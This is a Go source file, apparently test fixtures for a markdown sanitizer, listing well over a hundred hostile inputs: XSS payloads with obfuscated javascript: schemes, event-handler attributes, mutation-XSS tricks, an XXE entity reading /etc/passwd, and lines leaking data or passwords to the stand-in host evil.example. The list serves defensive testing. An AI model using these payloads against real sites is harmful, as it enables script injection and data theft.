package markdown

import "strings"

// hostile are texts that try to become more than text.
func hostile() []string {
	all := strings.Split(strings.TrimSpace(payloads), "\n")
	for _, scheme := range []string{
		"javascript:alert(1)", "JavaScript:alert(1)", "java\tscript:alert(1)", "java&#10;script:alert(1)", "&#106;avascript:alert(1)", "javascript&colon;alert(1)",
		"javascript://acme.example/%0aalert(1)", " javascript:alert(1)", "\x01javascript:alert(1)", "vbscript:msgbox(1)", "data:text/html,<script>alert(1)</script>",
		"data:text/html;base64,PHNjcmlwdD4=", "data:image/svg+xml,<svg onload=alert(1)>", "file:///etc/passwd", "blob:https://acme.example/1", "about:blank",
		"view-source:https://acme.example", "intent://x#Intent;end", "ftp://acme.example", "ws://acme.example", "//evil.example", "/login", "\\\\evil.example", "#x", "?x",
		"https:evil.example", "http:///evil.example", "https://", "mailto:", "tel:112", "sms:112", "ms-word:ofe|u|x", "chrome://settings", "jar:https://x!/", "%6aavascript:alert(1)",
		"https://evil.example/\"onmouseover=alert(1)", "https://evil.example/'><script>alert(1)</script>", "https://evil.example/ onmouseover=alert(1)",
	} {
		all = append(all, "[x]("+scheme+")", "[x](<"+scheme+">)", "<"+scheme+">", "![x]("+scheme+")", "[x]: "+scheme+"\n\n[x]", scheme)
	}
	return append(all,
		"[a\n](javascript:alert(1))", "```html\n</code></pre><script>alert(1)</script>\n```", "```\"onload=alert(1)\nx\n```", "``` <script>\nx\n```",
		"<pre>\n<script>alert(1)</script>\n</pre>", "<details open ontoggle=alert(1)>\n\nx\n\n</details>", "<table>\n<tr><td onclick=alert(1)>x\n\n</table>",
		"<!--\n<script>alert(1)</script>\n-->", "<?php echo '<script>alert(1)</script>' ?>", "<![CDATA[<script>alert(1)</script>]]>", "<!DOCTYPE html>\n<script>alert(1)</script>",
		"<style>\n*{background:url(//evil.example)}\n</style>", "<textarea>\n</textarea><script>alert(1)</script>", "\x00<script\x00>alert(1)</script>",
		"|<img src=x onerror=alert(1)>|b|\n|-|-|\n|<script>|x|", "- <svg\n  onload=alert(1)>", "> <iframe\n> src=javascript:alert(1)>", "<a\nhref=javascript:alert(1)>x</a>",
		"&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;alert(1)&#60;/script&#62;", "\\<script>alert(1)\\</script>", "<<script>script>alert(1)<</script>/script>",
		"<scr<script>ipt>alert(1)</scr</script>ipt>", "\u2028<script>alert(1)</script>\u2029", "\ufeff<script>alert(1)</script>", "\xff<script>alert(1)</script>",
		"<script>alert(1)", "</p><script>alert(1)</script>", "]]><script>alert(1)</script>", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
		"<svg><style><img src=x onerror=alert(1)></style></svg>", "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
	)
}

const payloads = `
<script>alert(1)</script>
<SCRIPT SRC=//evil.example/x.js></SCRIPT>
<script/src=data:,alert(1)></script>
<script type=module>import "//evil.example"</script>
<img src=x onerror=alert(1)>
<img src=https://evil.example/leak?q=secret>
<img/src/onerror=alert(1)>
<img srcset="https://evil.example/x 1x">
<IMG """><SCRIPT>alert(1)</SCRIPT>">
<svg onload=alert(1)>
<svg/onload=alert(1)//
<svg><script>alert(1)</script></svg>
<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>
<svg><use href="https://evil.example/x.svg#x"/></svg>
<svg><animate onbegin=alert(1) attributeName=x>
<math href="javascript:alert(1)">x</math>
<iframe src="javascript:alert(1)"></iframe>
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<object data="javascript:alert(1)"></object>
<embed src="//evil.example">
<applet code=x></applet>
<base href="https://evil.example/">
<meta http-equiv=refresh content="0;url=https://evil.example">
<link rel=stylesheet href="//evil.example/x.css">
<link rel=prefetch href="//evil.example">
<style>@import "//evil.example";</style>
<form action="https://evil.example"><input name=password><button>Go</button></form>
<input autofocus onfocus=alert(1)>
<button formaction="javascript:alert(1)">x</button>
<select onfocus=alert(1)></select>
<textarea autofocus onfocus=alert(1)>
<video src=//evil.example autoplay onplay=alert(1)></video>
<video><source onerror=alert(1)></video>
<audio src=x onerror=alert(1)>
<body onload=alert(1)>
<html onmouseover=alert(1)>
<div style="background:url(https://evil.example)">x</div>
<p style="position:fixed;inset:0">x</p>
<span class="btn" id="main">x</span>
<div hx-get="/logout" hx-trigger="load">x</div>
<div data-follow="/s/x">x</div>
<a href="javascript:alert(1)">x</a>
<a href=" javascript:alert(1)">x</a>
<a href="https://evil.example" target="_top">x</a>
<a href="/logout" ping="https://evil.example">x</a>
<a onclick=alert(1)>x</a>
<area href="javascript:alert(1)">
<marquee onstart=alert(1)>x</marquee>
<details ontoggle=alert(1) open>x</details>
<dialog open onclose=alert(1)>x</dialog>
<template><script>alert(1)</script></template>
<slot onslotchange=alert(1)>
<portal src="https://evil.example">
<frameset onload=alert(1)>
<isindex action="javascript:alert(1)">
<keygen autofocus onfocus=alert(1)>
<xss onafterscriptexecute=alert(1)>
<x-foo is=y onclick=alert(1)>
<?xml version="1.0"?><x>
<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]>
<!--[if IE]><script>alert(1)</script><![endif]-->
<!-- --!><script>alert(1)</script>
[x](https://acme.example "onmouseover=alert(1)")
[x](https://acme.example '" onmouseover="alert(1)')
[x](https://acme.example/"><script>alert(1)</script>)
[<img src=x onerror=alert(1)>](https://acme.example)
[![x](javascript:alert(1))](javascript:alert(2))
![x](https://evil.example/pixel.gif)
![x" onerror="alert(1)](x)
![<script>alert(1)</script>](x)
![x][y]
<https://acme.example/"onmouseover=alert(1)>
<mailto:x@y.example?subject=<script>>
<x@y.example"onclick=alert(1)>
https://acme.example/<script>alert(1)</script>
https://acme.example/"onmouseover="alert(1)
www.acme.example/"><img src=x onerror=alert(1)>
x@y.example"><img src=x onerror=alert(1)>
{{constructor.constructor('alert(1)')()}}
${alert(1)}
<%= alert(1) %>
$$\href{javascript:alert(1)}{x}$$
:javascript:
[[x]](javascript:alert(1))
[x](javascript:alert(1) "t")
[x](  javascript:alert(1)  )
[x](<javascript:alert(1)>)
[x](java
~~<script>alert(1)</script>~~
**<script>alert(1)</script>**
<b onclick=alert(1)>x</b>
<br onclick=alert(1)>
<hr onclick=alert(1)>
<code onclick=alert(1)>x</code>
<table background="//evil.example"><tr><td background="//evil.example">x
<font face="x" onclick=alert(1)>
<bgsound src="javascript:alert(1)">
<layer src="//evil.example"></layer>
<plaintext>
<xmp><script>alert(1)</script></xmp>
<listing>&lt;script&gt;</listing>
<noembed><script>alert(1)</script></noembed>
<title><script>alert(1)</script></title>
<frame src="javascript:alert(1)">
<image src=x onerror=alert(1)>
<picture><source srcset="//evil.example"></picture>
<track src="//evil.example">
<menuitem onclick=alert(1)>
<nav popover id=x onbeforetoggle=alert(1)>`
